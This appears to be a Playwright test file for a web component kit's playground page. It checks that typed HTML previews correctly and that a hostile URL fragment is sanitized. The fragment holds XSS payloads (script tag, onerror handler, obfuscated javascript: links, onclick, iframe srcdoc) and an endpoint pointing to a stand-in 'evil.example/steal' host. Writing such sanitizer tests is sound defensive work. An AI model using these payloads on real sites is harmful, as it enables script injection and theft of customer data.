import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import { startDemo, type Demo } from './support/demo.js';

let demo: Demo;
before(async () => {
  demo = await startDemo();
});
after(() => demo.stop());

async function open(path = '/playground.html'): Promise<Page> {
  const page = await (await demo.visit()).newPage();
  await page.goto(path);
  return page;
}

const preview = (page: Page) =>
  page.locator('.preview customer-session').evaluate((session) => session.innerHTML);

test('what is typed runs, as staff and as a customer', async () => {
  const page = await open();
  await page.locator('customer-table:state(ready)').waitFor();
  await page.getByRole('link', { name: 'Customer' }).click();
  await page.getByRole('tab', { name: 'Billing' }).waitFor();
  await page.getByLabel('HTML').fill('<h2>Mine</h2><license-keys></license-keys>');
  await page.locator('.preview h2', { hasText: 'Mine' }).waitFor();
  assert.equal(await preview(page), '<h2>Mine</h2><license-keys></license-keys>');
  await page.reload();
  assert.equal(
    await page.getByLabel('HTML').inputValue(),
    '<h2>Mine</h2><license-keys></license-keys>',
  );
});

test('a link to the page can bring nothing but the kit’s tags, plain text and safe links', async () => {
  const hostile = `<script>document.title = 'Taken'</script><img src=x onerror="document.title = 'Taken'">
<customer-session endpoint="https://evil.example/steal"><a href="java&#115;cript:alert(1)" onclick="alert(1)">a</a>
<a href="javascript:alert(1)">b</a><customer-table onclick=alert(1) ROW-HREF="javascript:alert(1)" page-size='10'>
<iframe srcdoc="<script>"></iframe><!-- <b> --></customer-table></p></customer-session>&lt;b&gt;<`;
  const page = await open(`/playground.html?as=staff#${encodeURIComponent(hostile)}`);
  await page.locator('.preview customer-table').waitFor();
  await page.waitForTimeout(300);
  assert.equal(await page.title(), 'Playground · Lantern');
  const tags = await page
    .locator('.preview customer-session')
    .evaluate((session) =>
      [...session.querySelectorAll('*')].map((one) =>
        [one.localName, ...one.getAttributeNames()].join(' '),
      ),
    );
  assert.deepEqual(tags, ['a href', 'a', 'customer-table page-size']);
  assert.equal(
    await page
      .locator('.preview a')
      .first()
      .evaluate((a) => (a as HTMLAnchorElement).protocol),
    'http:',
  );
  assert.equal(
    await page.locator('.preview > customer-session').getAttribute('endpoint'),
    '/customer-elements',
  );
  assert.match(await page.locator('#notes').innerText(), /<script> is left out/);
  assert.match(await page.locator('#notes').innerText(), /onclick of <a> is left out/);
});
